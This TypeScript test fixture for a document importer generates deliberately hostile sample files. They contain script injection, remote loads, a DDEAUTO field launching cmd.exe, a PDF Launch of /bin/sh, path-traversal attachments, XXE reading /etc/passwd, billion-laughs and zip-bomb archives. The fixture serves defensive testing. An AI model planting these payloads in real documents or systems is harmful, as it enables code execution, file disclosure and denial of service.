import { makeDocx, p, r } from '../src/main/import/testing/docx';
import { drawn, makePdf, PDF_FREE, streamOf } from '../src/main/import/testing/pdf';
import { makeZip, type ZipEntry } from '../src/main/import/testing/zip';

type Files = Readonly<Record<string, string | Uint8Array>>;

const HIDDEN = 'that is not there';

/** Documents that want something loaded from an address, started or carried out, each with one sentence "… speaks." that is its text. */
export function demandingFiles(address: string): Files {
  const html = (name: string) => `<!DOCTYPE html SYSTEM "${address}/a.dtd"><html><head><title>${name}</title>
<base href="${address}/"><meta http-equiv="refresh" content="0;url=${address}/refresh"><link rel="stylesheet" href="${address}/a.css">
<link rel="preload" as="image" href="${address}/preload"><link rel="icon" href="${address}/icon"><style>@import "${address}/b.css"; p { background: url(${address}/c) }</style>
<script src="${address}/a.js"></script><script>document.title = 'hacked'; new Image().src = '${address}/script'</script></head>
<body onload="location.href='${address}/load'"><h1>${name}</h1><p onclick="alert(1)">${name} speaks.</p><img src="${address}/pixel.gif" onerror="document.title='hacked'">
<iframe src="${address}/frame"></iframe><object data="${address}/object"></object><embed src="${address}/embed"><video src="${address}/video" autoplay></video>
<svg><image href="${address}/svg"/><script>document.title = 'hacked'</script></svg><form action="${address}/form"><input autofocus onfocus="this.form.submit()"></form>
<a href="javascript:document.title='hacked'" ping="${address}/ping">.</a></body></html>`;
  return {
    'page.html': html('Page'),
    'saved.mhtml': [
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="b"; type="text/html"',
      '',
      '--b',
      `Content-Type: text/html; charset=utf-8\r\nContent-Location: ${address}/saved`,
      '',
      html('Saved'),
      '--b',
      `Content-Type: message/external-body; access-type=URL; URL="${address}/part"`,
      '',
      '',
      '--b--',
      '',
    ].join('\r\n'),
    'mail.eml': [
      'From: Press <press@example.org>',
      'Subject: Mail',
      'Disposition-Notification-To: press@example.org',
      'Content-Type: multipart/mixed; boundary="m"',
      '',
      '--m',
      'Content-Type: text/html; charset=utf-8',
      '',
      html('Mail'),
      '--m',
      'Content-Type: application/x-sh; name="../../evil.sh"',
      'Content-Disposition: attachment; filename="../../evil.sh"',
      '',
      'echo evil',
      '--m--',
      '',
    ].join('\r\n'),
    'notes.md': `# Notes\n\nNotes speaks.\n\n![pixel](${address}/md.gif)\n\n<script>document.title = 'hacked'</script><img src="${address}/raw" onerror="alert(1)">\n`,
    'book.epub': epub([
      {
        path: 'o/c.xhtml',
        content: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "${address}/xhtml11.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="${address}/e.css"/><script src="${address}/e.js"/></head><body><p>Book speaks.</p><img src="${address}/e.gif"/><iframe src="${address}/e"/></body></html>`,
      },
      { path: 'o/inner.zip', content: makeZip([{ path: 'a', content: 'inner' }]) },
    ]),
    'letter.docx': makeDocx(
      p(r('Letter speaks.')) +
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
        `<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;${address}/field.png&quot;"/></w:p><w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="far"/>`,
      {
        others: [
          {
            path: 'word/_rels/settings.xml.rels',
            content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="far" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${address}/template.dotm" TargetMode="External"/></Relationships>`,
          },
          { path: 'word/vbaProject.bin', content: 'Sub AutoOpen()' },
          {
            path: 'word/embeddings/inner.docx',
            content: makeZip([{ path: 'word/document.xml', content: 'x' }]),
          },
        ],
      },
    ),
    'memo.odt': odt(
      `<o:document-content xmlns:o="${ODF}:office:1.0" xmlns:t="${ODF}:text:1.0" xmlns:d="${ODF}:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink"><o:scripts><o:script x:href="${address}/odt.js"/></o:scripts><o:body><o:text><t:p>Memo speaks.</t:p><t:p><d:frame><d:image x:href="${address}/odt.png" x:actuate="onLoad"/></d:frame></t:p></o:text></o:body></o:document-content>`,
    ),
    'paper.pdf': makePdf([drawn('Paper speaks.', 50, 700)], {
      catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\('${address}/pdf'\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /EmbeddedFiles << /Names [(b) ${PDF_FREE} 0 R] >> >>`,
      page: `/AA << /O << /S /SubmitForm /F (${address}/submit) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${address}/uri) >> >>]`,
      objects: {
        [PDF_FREE]: `<< /Type /Filespec /F (../../evil.exe) /EF << /F ${PDF_FREE + 1} 0 R >> >>`,
        [PDF_FREE + 1]: streamOf('MZ'),
      },
    }),
  };
}

/** Documents that are to be refused, by what of the message says why. `evil` is where one wants to write, an absolute path. */
export function refusedFiles(
  address: string,
  evil: string,
): readonly (readonly [string, Uint8Array, RegExp])[] {
  const laughs = Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join('');
  const declared = `<!DOCTYPE w [<!ENTITY a0 "ha">${laughs}]>`;
  const outside = `<!DOCTYPE w [<!ENTITY a30 SYSTEM "${address}/entity"><!ENTITY % p SYSTEM "file:///etc/passwd">]>`;
  const body = `<o:document-content xmlns:o="${ODF}:office:1.0" xmlns:t="${ODF}:text:1.0"><o:body><o:text><t:p>&a30;</t:p></o:text></o:body></o:document-content>`;
  const packedOddly = /packed as no ordinary document is/;
  const abbreviations = /abbreviations that could unfold/;
  return [
    ['bomb.docx', makeDocx(' '.repeat(40_000_000)), packedOddly],
    ['entities.odt', odt(declared + body), abbreviations],
    ['outside.odt', odt(outside + body), abbreviations],
    ['up.epub', epub([{ path: '../../../evil.txt', content: 'evil' }]), packedOddly],
    ['absolute.epub', epub([{ path: evil, content: 'evil' }]), packedOddly],
    ['backslash.odt', odt(body, [{ path: '..\\..\\evil.txt', content: 'evil' }]), packedOddly],
    [
      'liar.docx',
      makeDocx(p(r(HIDDEN)), { others: [{ path: 'a', content: 'x', claimedSize: 2 ** 31 }] }),
      packedOddly,
    ],
    [
      'overlap.docx',
      makeDocx(p(r(HIDDEN)), { others: [{ path: 'a', content: 'x', sharesPlaceOf: 'word/document.xml' }] }),
      packedOddly,
    ],
    [
      'many.odt',
      odt(
        body,
        Array.from({ length: 10_001 }, (_, n) => ({ path: `${n}`, content: '' })),
      ),
      packedOddly,
    ],
  ];
}

/** A Markdown text that takes the parser minutes, whatever the machine. */
export function endlessText(): string {
  const depth = 12_000_000;
  return `${'['.repeat(depth)}a${']'.repeat(depth)}`;
}

const ODF = 'urn:oasis:names:tc:opendocument:xmlns';

function odt(content: string, others: readonly ZipEntry[] = []): Uint8Array {
  return makeZip([
    { path: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true },
    { path: 'content.xml', content },
    ...others,
  ]);
}

function epub(others: readonly ZipEntry[]): Uint8Array {
  return makeZip([
    { path: 'mimetype', content: 'application/epub+zip', isStored: true },
    {
      path: 'META-INF/container.xml',
      content:
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="o/p.opf"/></rootfiles></container>',
    },
    {
      path: 'o/p.opf',
      content:
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c"/></spine></package>',
    },
    ...others,
  ]);
}
